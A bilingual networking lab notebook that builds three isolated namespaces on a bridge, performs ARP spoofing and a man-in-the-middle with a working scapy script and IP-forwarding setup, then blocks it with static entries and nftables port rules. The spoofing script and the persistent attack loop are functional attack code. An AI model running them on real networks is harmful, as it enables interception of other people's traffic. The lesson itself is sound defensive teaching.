# %% [markdown] lang="en"
# # Attack and defence
#
# On a wire, whoever answers is believed. So one machine can take the place of another, read everything that passes, and hand it on. Here you do that, watch it from all sides, and stop it in two ways.
#
# **Time:** about 30 minutes. **You need:** [ARP and the answer](03_arp_and_answer.ipynb), and the bridge of [lesson 4](04_beyond.ipynb). Nothing that you built there is needed.
#
# **This page is closed.** It works only inside the notebook's machine, and no frame gets out of it; its cells see to that and refuse anywhere else. Wherever other people's traffic passes, the same act is wrong, and a crime in most countries. Whoever knows how it is done can recognise and prevent it: that is what this page is for.

# %% [markdown] lang="zh"
# # 攻与防
#
# 在一根线上，谁应答就信谁。所以一台机器可以冒充另一台，把经过的一切都看一遍，再转交过去。这一页由你来做一遍，从各个方向看清楚，再用两种办法拦住它。
#
# **用时：** 约 30 分钟。**准备：** 先学[《ARP 与应答》](03_arp_and_answer.ipynb)，以及[第 4 课](04_beyond.ipynb)里的网桥；那里搭的东西，这里用不到。
#
# **这一页是封闭的。** 它只在笔记本的机器里运行，一个帧也出不去；单元格自己会查，换个地方就拒绝执行。凡是有别人的流量经过的地方，做同样的事都是不对的，在多数国家还构成犯罪。知道它怎么做，才认得出、防得住：这一页就是为此写的。

# %%
import nslabkit as lab
lab.check.empty()

# %%
lab.recall(16)

# %% [markdown] lang="en"
# ## 1. Three on a bridge, and no way out
#
# The names say who is who: a victim, a server, an attacker, all on one bridge of the host, as on a switch in an office. Their MAC addresses end in 01, 02 and 03, as their IP addresses end in 1, 2 and 3. The host's ends of the wires are the ports. (Late? `lab.catch_up("16.2")` builds what section 2 starts from.)

# %% [markdown] lang="zh"
# ## 1. 网桥上的三台，没有出口
#
# 名字说明了角色：受害者（`victim`）、服务器（`server`）、攻击者（`attacker`），都接在主机的一个网桥上，好比办公室里的一台交换机。MAC 地址以 01、02、03 结尾，IP 地址以 1、2、3 结尾。线在主机这端的接口，就是网桥端口。（来晚了？`lab.catch_up("16.2")` 会搭好第 2 节开始时该有的东西。）

# %% build="on" magic_args="--no-raise-error" language="bash"
# ip link add br0 type bridge; ip link set br0 up
# number=0
# for name in victim server attacker; do
#   number=$((number + 1))
#   ip netns add $name
#   ip netns exec $name sysctl -qw net.ipv6.conf.default.disable_ipv6=1
#   ip link add port-$name type veth peer name eth0 netns $name
#   ip -n $name link set eth0 address 02:00:00:00:00:0$number up
#   ip -n $name addr add 172.16.0.$number/24 dev eth0
#   ip link set port-$name master br0 up
# done

# %% [markdown] lang="en"
# Is the page closed? `lab.closed()` goes through every link of every namespace: each must be the end of a wire whose other end is here, too. If not, it raises an error, and the cell goes no further.

# %% [markdown] lang="zh"
# 这一页封闭了吗？`lab.closed()` 把每个命名空间的每个接口都查一遍：必须是线的一端，而且对端也在这里。不是这样就报错，单元格到此为止。

# %% build="on"
victim, server, attacker = map(lab.namespaces.namespace, ("victim", "server", "attacker"))
everywhere = (victim, attacker, server, "port-victim", "port-attacker", "port-server")
print(lab.closed())
lab.wait_for("ip netns exec victim ping -c 1 -W 1 172.16.0.2", "bytes from")
# !ip -n server neigh flush all; ip netns exec server ping -c 1 172.16.0.1
# !ip -n victim neigh; ip -n server neigh
lab.picture()

# %% [markdown] lang="en"
# `victim` knows `server` by its MAC address, which ends in 02, and `server` knows `victim` by 01. (Each has asked for itself, so that nobody need ask again for a while.) All is as it should be.
#
# ## 2. A reply that nobody asked for
#
# This program uses `scapy`, a Python library for building packets. It sends ARP replies to one neighbour: “`claimed` is at my MAC address”. Before that, it checks where it is running.

# %% [markdown] lang="zh"
# `victim` 认得 `server`，MAC 地址以 02 结尾；`server` 也认得 `victim`，以 01 结尾。（各自都问过一遍，这样一时半会儿谁也不用再问。）一切正常。
#
# ## 2. 不请自来的应答
#
# 这个程序用 `scapy`（造包用的 Python 库）伪造 ARP 应答：“`claimed` 的 MAC 地址就是我的”，只发给一个邻居。发之前，它同样先检查自己在哪里运行。

# %% build="on"
# %%writefile /run/spoof.py
import sys
import nslabkit as lab
from scapy.all import ARP, Ether, sendp
if lab.backend().kind == "none":
    sys.exit("only inside a notebook's machine")
claimed, target, mac, mine, count = sys.argv[1:]
frame = Ether(src=mine, dst=mac)
frame /= ARP(op="is-at", hwsrc=mine, psrc=claimed, hwdst=mac, pdst=target)
sendp(frame, iface="eth0", count=int(count), inter=0.5, verbose=False)

# %%
lab.predict("an unasked reply")

# %% build="on"
import os, sys
lab.closed()
os.environ["SPOOF"] = f"{sys.executable} /run/spoof.py"
to_victim = "172.16.0.2 172.16.0.1 02:00:00:00:00:01 02:00:00:00:00:03"
with lab.capture(*everywhere, filter="arp") as spoofed:
    attacker.run(f"{os.environ['SPOOF']} {to_victim} 3")
# !ip -n victim neigh
spoofed.ladder(scale="log")

# %%
lab.compare("an unasked reply")

# %% [markdown] lang="en"
# No question was asked, and yet the MAC address of 172.16.0.2 now ends in 03. ARP has no way to prove anything; the kernel takes whatever came last. (The kernel only refuses to change an entry again within a second, which is why the program sends three.) Claim B31: “A neighbour entry follows whoever claims the address.” True?

# %% [markdown] lang="zh"
# 没有人问过，可是 172.16.0.2 的 MAC 地址现在以 03 结尾。ARP 什么也证明不了，谁最后说，内核就听谁的。（只是同一个条目，一秒之内内核不肯改两次，所以程序发了三个。）论断 B31：“谁声称拥有这个地址，邻居条目就跟着谁走。”是这样吗？

# %% claim="B31"
lab.claims.B31.check()

# %% [markdown] lang="en"
# ## 3. In the middle
#
# Now the same once more, and also towards `server`, about 172.16.0.1. And `attacker` becomes a router, so that nothing gets lost. (`send_redirects=0` keeps its kernel from telling the others that there is a shorter way.)

# %% [markdown] lang="zh"
# ## 3. 夹在中间
#
# 再来一次，对 `server` 也来一遍，这回冒充的是 172.16.0.1。再让 `attacker` 当路由器，免得东西丢了。（`send_redirects=0` 是不让它的内核告诉别人还有更近的路。）

# %%
lab.predict("in the middle")

# %% build="on"
lab.closed()
to_server = "172.16.0.1 172.16.0.2 02:00:00:00:00:02 02:00:00:00:00:03"
for words in (to_victim, to_server):
    attacker.run(f"{os.environ['SPOOF']} {words} 3")
attacker.run("sysctl -w net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0")
attacker.run("sysctl -w net.ipv4.conf.eth0.send_redirects=0")
for address in ("172.16.0.1", "172.16.0.2"):
    attacker.run(f"ping -c 1 {address}", quiet=True)
with lab.capture(*everywhere, filter="icmp") as between:
    victim.run("ping -c 1 172.16.0.2")
between.ladder(scale="log")

# %%
lab.compare("in the middle")

# %% [markdown] lang="en"
# Answered, as always. But follow the arrows: request and reply each pass through `attacker`, which could read them, keep them, or change them. One thing gives it away: `ttl=63`. Somebody on the way acted as a router and took one off. (An attacker can hide that, too.) Claim B32: “The ping is answered, although all of it passes a stranger.” True?

# %% [markdown] lang="zh"
# 照样有应答。可是顺着箭头看：请求和应答都经过了 `attacker`，它可以读，可以扣下，也可以改。露馅的只有一处：`ttl=63`，路上有谁当了路由器，减了一。（攻击者也能把它加回去。）论断 B32：“ping 有应答，尽管全程都经过一个外人。”是这样吗？

# %% claim="B32"
lab.claims.B32.check(recording=between)

# %% [markdown] lang="en"
# ## 4. An entry that ARP may not touch
#
# The first defence: an entry by hand tells `victim` the right MAC address. Then the attack again, on both sides.

# %% [markdown] lang="zh"
# ## 4. ARP 动不了的条目
#
# 第一种防法：手工告诉 `victim` 正确的 MAC 地址。然后两边再攻一遍。

# %%
lab.predict("half a defence")

# %%
lab.closed()
# !ip -n victim neigh replace 172.16.0.2 lladdr 02:00:00:00:00:02 dev eth0 nud permanent
with lab.capture(*everywhere, filter="arp or icmp") as half:
    attacker.run(f"{os.environ['SPOOF']} {to_victim} 2")
    attacker.run(f"{os.environ['SPOOF']} {to_server} 3")
    victim.run("ping -c 1 172.16.0.2")
# !ip -n victim neigh; ip -n server neigh
for packet in half.packets:
    if packet.kind.protocol == "ICMP" and "port" not in packet.interface.name:
        print(packet.interface.where, "-->" if packet.outgoing else "<--", packet.kind)

# %%
lab.compare("half a defence")

# %% [markdown] lang="en"
# `PERMANENT`: the claim arrived, and the entry stayed. The request goes straight to `server`; but `server` still believes the attacker, and the reply takes the detour. A conversation has two ends, and each looks in its own table. Claim B33: “ARP does not change a static entry.” True?

# %% [markdown] lang="zh"
# `PERMANENT`：冒名的帧到了，条目没变。请求直接到了 `server`；可 `server` 仍然相信攻击者，应答还是绕了路。通信有两端，各查各的邻居表。论断 B33：“静态条目，ARP 改不了。”是这样吗？

# %% claim="B33"
lab.claims.B33.check(recording=half)

# %% [markdown] lang="en"
# ## 5. A port that does not believe everything
#
# Entries by hand on a hundred machines: nobody does that. The second defence is a matter for the switch, which can be told which address belongs behind which port. In `nft`, the family **netdev** has rules for one link, at the very first place where a frame comes in (`ingress`). First the entries go, and the right ones come back by themselves; then the rule, and the attack once more:

# %% [markdown] lang="zh"
# ## 5. 不轻信的网桥端口
#
# 一百台机器都手工写条目，没人会这么干。第二种防法交给交换机：可以告诉它，哪个地址该在哪个网桥端口后面。`nft` 的 **netdev** 族，规则只管一个接口，位置在帧刚进来的地方（`ingress`）。先去掉静态条目，让正确的条目自己回来；再写规则，再攻一次：

# %% magic_args="--no-raise-error" language="bash"
# ip -n victim neigh del 172.16.0.2 dev eth0; ip -n server neigh del 172.16.0.1 dev eth0
# ip netns exec victim ping -c 1 172.16.0.2
# nft add table netdev gate
# nft add chain netdev gate in '{ type filter hook ingress device "port-attacker" priority filter; }'
# nft add rule netdev gate in arp saddr ip != 172.16.0.3 counter drop

# %%
lab.closed()
with lab.capture(*everywhere, filter="arp") as stopped:
    attacker.run(f"{os.environ['SPOOF']} {to_victim} 3")
# !ip -n victim neigh; nft list table netdev gate
stopped.ladder(scale="log")

# %% [markdown] lang="en"
# The claims reach `port-attacker`, but nobody behind it; `counter` says how many were dropped. The attacker's honest ARP still passes. Claim B34: “A rule at the port stops the false claim, and only that.” True?

# %% [markdown] lang="zh"
# 冒名的帧到了 `port-attacker`，再往后谁也没收到；`counter` 数着丢了几个。攻击者诚实的 ARP 照样通过。论断 B34：“网桥端口上的一条规则，拦得住冒名的帧，也只拦它。”是这样吗？

# %% claim="B34"
lab.claims.B34.check(recording=stopped)

# %% [markdown] lang="en"
# **On a real network** this is what switches call *dynamic ARP inspection*; they learn from DHCP, which hands out addresses, who has which. IPv6 has the same weakness; there the defences are called *RA guard* and *ND inspection*. Where nobody guards the ports, as in a café, assume that somebody is reading along: TLS and SSH use keys to check who is on the other side, whichever way the packets came. And a program that notes changes, such as `arpwatch`, raises the alarm.
#
# ## 6. Your turn
#
# Three tasks. The next cell takes the rule away and starts an attack that goes on and on, against both. Any way is right that gets there; `lab.hint("16.1")` opens the first of three hints.

# %% [markdown] lang="zh"
# **在真实的网络里**，交换机把这叫作**动态 ARP 检测**（DAI），哪个地址归谁，是从 DHCP（自动分配地址的协议）得知的。IPv6 有同样的弱点，对应的是 **RA guard** 和 **ND inspection**。没人看管交换机端口的地方，例如咖啡馆，就当作有人在旁边偷看：TLS 和 SSH 用密钥核实对方是谁，不管包是从哪条路来的。另外，可以让一台机器专门记录地址和 MAC 的对应关系（`arpwatch`），一有变化就报警。
#
# ## 6. 轮到你了
#
# 三个任务。下一格去掉规则，再对两边发起一场不停的攻击。只要达到目标，什么做法都行；`lab.hint("16.1")` 会打开第一条提示，一共三条。

# %% magic_args="--no-raise-error" language="bash"
# nft delete table netdev gate 2>/dev/null
# ip netns pids attacker | xargs -r kill
# attack="setsid ip netns exec attacker $SPOOF"
# $attack 172.16.0.2 172.16.0.1 02:00:00:00:00:01 02:00:00:00:00:03 9999 >/dev/null 2>&1 &
# $attack 172.16.0.1 172.16.0.2 02:00:00:00:00:02 02:00:00:00:00:03 9999 >/dev/null 2>&1 &
# for name in victim server; do
#   timeout 60 sh -c "until ip -n $name neigh | grep '0.[12] ' | grep -qE '00:03|PERM'; do sleep 0.2; done"
# done
# ip -n victim neigh; ip -n server neigh

# %% task="16.1"

# %% task="16.1" tags=["solution"] magic_args="--no-raise-error" language="bash"
# ip -n victim neigh replace 172.16.0.2 lladdr 02:00:00:00:00:02 dev eth0 nud permanent
# ip -n server neigh replace 172.16.0.1 lladdr 02:00:00:00:00:01 dev eth0 nud permanent

# %% task="16.1"
lab.check.task("16.1")

# %% [markdown] lang="en"
# Now without an entry set by hand; and the attacker's own ARP must pass.

# %% [markdown] lang="zh"
# 这次不许手写条目；攻击者自己的 ARP 也得通过。

# %% task="16.2"

# %% task="16.2" tags=["solution"] magic_args="--no-raise-error" language="bash"
# nft add table bridge gate
# nft add chain bridge gate in "{ type filter hook prerouting priority filter; }"
# nft add rule bridge gate in iifname port-attacker arp saddr ip != 172.16.0.3 drop
# ip -n victim neigh replace 172.16.0.2 lladdr 02:00:00:00:00:02 dev eth0 nud stale
# ip -n server neigh replace 172.16.0.1 lladdr 02:00:00:00:00:01 dev eth0 nud stale

# %% task="16.2"
lab.check.task("16.2")

# %% [markdown] lang="en"
# Last, a search. One of the three now claims to be 172.16.0.254, an address that nobody has, and the names no longer tell you which: the cell takes your rules away, and draws lots.

# %% [markdown] lang="zh"
# 最后是追查。三台中的一台，声称自己是 172.16.0.254，其实谁也没有这个地址。这次名字说明不了什么：这一格先清空规则，再抽签决定是谁。

# %% magic_args="--no-raise-error" language="bash"
# for name in victim server attacker; do ip netns pids $name | xargs -r kill; done
# rm -f /run/found; nft flush ruleset
# name=$(printf "victim\nserver\nattacker\n" | shuf -n 1)
# mac=$(ip -n $name -br link show eth0 | awk '{print $3}')
# claim="172.16.0.254 172.16.0.254 ff:ff:ff:ff:ff:ff $mac 9999"
# setsid ip netns exec $name $SPOOF $claim >/dev/null 2>&1 &

# %% task="16.3"

# %% task="16.3" tags=["solution"] magic_args="--no-raise-error" language="bash"
# seen=$(timeout 60 tcpdump -tne -c 1 -i br0 "arp host 172.16.0.254" 2>/dev/null)
# echo "$seen"; mac=${seen%% *}
# for name in victim server attacker; do
#   ip -n $name link show eth0 | grep -q "${mac:?nothing heard}" && echo $name >/run/found
# done
# cat /run/found

# %% task="16.3"
lab.check.task("16.3")

# %% [markdown] lang="en"
# ## What you have seen
#
# - ARP proves nothing. A reply that nobody asked for changes the entry, and the traffic goes by way of the liar.
# - A man in the middle who passes everything on is hard to notice: here, only the ttl gave him away.
# - A static entry holds, but only on the side that has it. A rule at the port protects everybody behind the switch.
# - Nothing that you sent left this machine.

# %% [markdown] lang="zh"
# ## 你看到了什么
#
# - ARP 什么也证明不了。不请自来的应答也能改掉条目，流量就改走说谎者那里。
# - 中间人把东西照样转交，就很难察觉：这里是 ttl 露了馅。
# - 静态条目管用，但只管写了它的那一端。网桥端口上的规则，保护交换机后面的所有人。
# - 你发出的东西，一个也没有离开这台机器。

# %% [markdown] lang="en"
# ## What you can now do
#
# Ticked where a check has shown it. What is not ticked is waiting for you: its task is above.

# %% [markdown] lang="zh"
# ## 现在你会做什么
#
# 打勾的，是检查已经证明的。没打勾的还等着你：任务在上面。

# %%
lab.learned(16)

# %% [markdown] lang="en"
# The last cell leaves the machine as you found it.

# %% [markdown] lang="zh"
# 最后一个单元格让机器恢复原样。

# %%
lab.empty()
# !rm -f /run/spoof.py /run/found
lab.check.empty()

# %% [markdown] lang="en"
# Next: [The last page is blank](20_blank_page.ipynb). How far you are: [the start page](00_start.ipynb).

# %% [markdown] lang="zh"
# 下一课：[《最后一页是空白的》](20_blank_page.ipynb)。学到了哪里，看[课程首页](00_start.ipynb)。
